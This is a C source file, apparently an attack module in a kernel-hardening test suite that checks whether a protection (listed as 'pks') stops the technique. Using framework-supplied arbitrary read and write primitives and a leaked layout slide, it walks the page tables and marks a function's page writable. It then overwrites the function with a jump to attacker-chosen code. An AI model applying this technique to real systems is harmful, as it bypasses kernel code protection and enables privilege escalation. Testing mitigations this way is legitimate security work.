/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Page tables: the attacker walks them, by arbitrary reads through the direct map, makes the page of a function
 * writable, and writes a jump there.
 */
#include "attacks.h"

#define ENTRY_WRITE UINT64_C(2)
#define ENTRY_LARGE UINT64_C(0x80)
#define ENTRY_ADDRESS UINT64_C(0x000ffffffffff000)

static NOINLINE long tick(long value)
{
	return attack_opaque(value) + 4;
}

static bool benign(const struct attack *attack)
{
	return tick(2) == 6;
}

static uintptr_t entry_at(uint64_t table, uintptr_t virt, int level)
{
	return attack_direct_map((table & ENTRY_ADDRESS) + (virt >> (3 + 9 * level) & 511) * 8);
}

static void make_writable(uint64_t root, uintptr_t virt)
{
	uint64_t entry = root;
	uintptr_t at = 0;

	for (int level = 4; level >= 1; level--) {
		at = entry_at(entry, virt, level);
		entry = attack_read64(at);
		if (level < 4 && entry & ENTRY_LARGE)
			break;
	}
	attack_write64(at, entry | ENTRY_WRITE);
}

static void patch(const struct attack *attack, uintptr_t slide)
{
	uint8_t code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	uintptr_t at = attack_linked_code(tick) + slide;
	uint64_t root = attack_read64(attack_linked(&arch_kernel_pagetable) + slide);

	memcpy(code + 2, &goal, sizeof(goal));
	attack_primitive(attack);
	make_writable(root, at);
	make_writable(root, at + sizeof(code) - 1);
	attack_write(at, code, sizeof(code));
	tick(1);
}

static void run(const struct attack *attack)
{
	patch(attack, attack_leaked_slide());
}

ATTACK(page_table, .family = "page tables", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "pks", .about = "an entry of the page tables makes code writable", .run = run, .benign = benign);
